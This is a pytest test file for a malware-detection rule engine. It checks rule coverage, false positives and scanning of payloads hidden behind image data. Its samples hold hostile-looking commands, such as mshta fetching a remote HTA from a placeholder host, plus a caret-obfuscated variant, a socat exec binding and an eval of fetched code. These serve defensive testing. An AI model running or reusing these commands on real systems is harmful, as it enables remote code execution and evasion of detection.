import re

import pytest

from gifthorse.inspect.detectors import rules_match
from gifthorse.inspect.filetypes import FileType
from gifthorse.inspect.rules.compiling import compiled, own_texts
from gifthorse.inspect.rules.routing import BUNDLE_OF, BUNDLES
from gifthorse.inspect.rules.scanning import Scan
from gifthorse.model.findings import Finding, Severity
from tests.samples.files import elf, findings_of, item_of, jpeg, mp4, pdf, pe, png, zip_of
from tests.samples.rule_samples import MACROS, SAMPLES

RULE = re.compile(r"^rule (\w+) \{$(.*?)^\}$", re.MULTILINE | re.DOTALL)


def named(findings: list[Finding]) -> set[str]:
    return {finding.detail.values["rule"] for finding in findings if finding.detail}


@pytest.mark.parametrize("rule", SAMPLES)
def test_each_rule_finds_its_sample(rule: str) -> None:
    name, body = SAMPLES[rule]
    assert rule in named(findings_of(rules_match, body, name)), item_of(body, name).filetype


@pytest.mark.parametrize("rule", MACROS)
def test_each_rule_for_macros_finds_its_sample(rule: str) -> None:
    scan = Scan(compiled([own_texts()["macros"]]))
    assert rule in {hit.rule for hit in scan.hits(MACROS[rule].encode())}


def test_every_rule_has_a_sample_and_says_what_it_is() -> None:
    rules = {name: body for text in own_texts().values() for name, body in RULE.findall(text.text)}
    assert rules.keys() == SAMPLES.keys() | MACROS.keys()
    assert len(rules) <= 500
    for name, body in rules.items():
        for fact in ("description", "severity", "technique", "harmless"):
            assert re.search(rf'^    {fact} = "[^"]+"$', body, re.MULTILINE), (name, fact)
        assert re.search(r'severity = "(\w+)"', body)[1] in set(Severity), name  # type: ignore[index]
        assert re.fullmatch(r"(T\d{4}(\.\d{3})?)( T\d{4}(\.\d{3})?)*", re.search(r'technique = "([^"]+)"', body)[1]), name  # type: ignore[index]


def test_every_family_is_in_a_bundle_and_every_bundle_is_used() -> None:
    assert {family for sets in BUNDLES.values() for families in sets for family in families} == own_texts().keys()
    assert set(BUNDLE_OF.values()) | {"macros", "sources"} == BUNDLES.keys()


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("letter.txt", b"Dear friend,\nplease press GUI r and have a look. cmd and powershell are programs.\n"),
        ("build.sh", b"#!/bin/sh\nset -e\ncurl -fsSL https://example.org/a.tar.gz | tar xz\nmake install\n"),
        ("setup.bat", b"@echo off\r\npowershell -NoProfile -ExecutionPolicy Bypass -File setup.ps1\r\n"),
        ("a.html", b"<html><body><form action='/login'><input type=password></form></body></html>"),
        ("a.csv", b"name,sum\nx,=SUM(A1:A3)\n"),
        ("a.jpg", jpeg()),
        ("a.png", png()),
        ("a.mp4", mp4()),
        ("a.pdf", pdf()),
        ("a.exe", pe()),
        ("a.zip", zip_of({"a.txt": b"hello"})),
        ("a.reg", b'REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Maker]\r\n"Language"="en"\r\n'),
        ("mail.sh", b'#!/bin/sh\nsocat exec:"mail.sh target@domain.invalid",fdin=3,fdout=4 tcp:host.invalid:25\n'),
        ("proxy.sh", b'#!/bin/sh\nsocat tcp-l:8080,reuseaddr,fork exec:"proxy.sh"\n'),
        ("ejs.js", b"function get(url) { var request = open(url); return eval( request.responseText ); }\n"),
        ("libvm.so", elf() + b"\0/etc/ld.so.preload\0readdir\0dlsym\0fopen64\0/bin/sh\0" + bytes(2 << 20)),
        ("empty", b""),
    ],
)
def test_ordinary_files_fit_no_rule(name: str, body: bytes) -> None:
    assert findings_of(rules_match, body, name) == []


def test_what_lies_behind_the_end_of_a_picture_is_scanned() -> None:
    name, masked = SAMPLES["masked_windows_program"]
    large = jpeg(scan=b"\x12\x34" * 100_000)
    found = findings_of(rules_match, large + masked, "a.jpg")
    assert named(found) == {"masked_windows_program"}
    assert found[0].evidence[0].offset is not None
    assert found[0].evidence[0].offset > len(large)
    assert name == "a.dat"


def test_what_lies_within_the_picture_itself_is_not_scanned() -> None:
    _name, masked = SAMPLES["masked_windows_program"]
    within = jpeg(scan=b"\x12\x34" * 100_000 + masked.replace(b"\xff", b"\xfe") + b"\x12\x34")
    assert findings_of(rules_match, within, "a.jpg") == []


def test_a_script_in_utf_16_is_read_as_its_text() -> None:
    body = "mshta http://host.invalid/a.hta\r\n".encode("utf-16")
    found = findings_of(rules_match, body, "a.bat")
    assert named(found) == {"mshta_runs_remote_page"}
    assert found[0].evidence[0].offset is None


def test_signs_that_the_command_line_skips_hide_nothing() -> None:
    body = b"@echo off\r\nm^s^h^t^a h^t^t^p^:^/^/host.invalid/a\r\n"
    assert "mshta_runs_remote_page" in named(findings_of(rules_match, body, "a.bat"))


def test_a_finding_tells_where_and_what_would_be_harmless() -> None:
    body = b"@echo off\r\nmshta http://host.invalid/a.hta\r\n"
    (finding,) = findings_of(rules_match, body, "a.bat")
    assert finding.severity is Severity.HIGH
    assert (finding.evidence[0].offset, finding.evidence[0].excerpt) == (11, "mshta http:")
    assert finding.detail is not None
    assert "Harmless if: None that is usual any more." in finding.detail.in_english()
    assert "T1218.005" in finding.detail.in_english()


def test_a_very_large_file_is_scanned_at_both_ends() -> None:
    from gifthorse.inspect.rules import portions

    name, masked = SAMPLES["masked_windows_program"]
    body = b"\x01\x00\xff\x80" * ((portions.WHOLE + (1 << 20)) // 4) + masked
    item = item_of(body, name)
    assert item.filetype is FileType.DATA
    assert named(list(rules_match.examine(item))) == {"masked_windows_program"}
